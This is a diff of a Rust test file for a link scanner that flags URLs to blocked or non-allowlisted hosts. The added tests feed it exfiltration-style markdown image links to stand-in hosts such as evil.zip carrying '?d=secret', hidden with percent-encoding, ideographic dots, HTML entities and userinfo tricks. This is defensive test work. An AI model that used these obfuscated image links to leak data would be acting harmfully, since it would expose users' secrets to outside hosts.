@@ -1,6 +1,7 @@
 //! Tests of links.
 
 use super::Urls;
+use crate::segment::Segments;
 use std::cell::Cell;
 
 thread_local! {
@@ -110,6 +111,10 @@ fn what_browsers_follow_is_a_link_however_it_is_written() {
     ] {
         assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
     }
+}
+
+#[test]
+fn hosts_that_must_not_be_linked_to_are_read_as_browsers_read_them() {
     let not = Urls::new(&[], &["evil.com".into(), "10.1.2.3".into()]);
     for text in [
         "//e%76il.com",
@@ -125,6 +130,40 @@ fn what_browsers_follow_is_a_link_however_it_is_written() {
         assert_eq!(found(&not, text).len(), 1, "{text}");
     }
     assert_eq!(found(&not, "https://1.3.6.1.4.1.311/ and //1.2.3.4.5.6").len(), 0);
+}
+
+/// The same of a text as it is cut into segments.
+fn found_in_segments(urls: &Urls, text: &str) -> usize {
+    let (mut out, bytes) = (Vec::new(), text.as_bytes());
+    Segments::default().visit(bytes, 0, true, &mut out, |segment, out| {
+        if segment.flags.may_be_link() {
+            urls.scan(bytes, segment.range.clone(), out);
+        }
+    });
+    out.len()
+}
+
+#[test]
+fn no_part_of_a_host_is_judged_alone() {
+    let only = Urls::new(&["good.com".into()], &[]);
+    let long = "a".repeat(2100);
+    for text in [
+        "![a](//中.evil.zip/?d=secret)",
+        "![a](//good.com。evil.zip/x)",
+        "![a](https://ไทย.good.com.evil.zip/x)",
+        "https&#58;//a.good.com。evil.zip/x",
+        &format!("![a](https://good.com:{long}@evil.zip/?d=s)"),
+        &format!("{}https://good.com:{long}@evil.zip/?d=s)", "x,".repeat(400)),
+    ] {
+        assert!(found_in_segments(&only, text) > 0, "{text}");
+    }
+    for text in [
+        "![a](//good.com/中文) 见 https://good.com/路径 和 www.good.com/x。好",
+        &format!("https://good.com/{long}"),
+        &format!("{{\"a\":\"{long}\",\"b\":\"https://good.com/x\"}}"),
+    ] {
+        assert_eq!(found_in_segments(&only, text), 0, "{text}");
+    }
 }
 
 #[test]
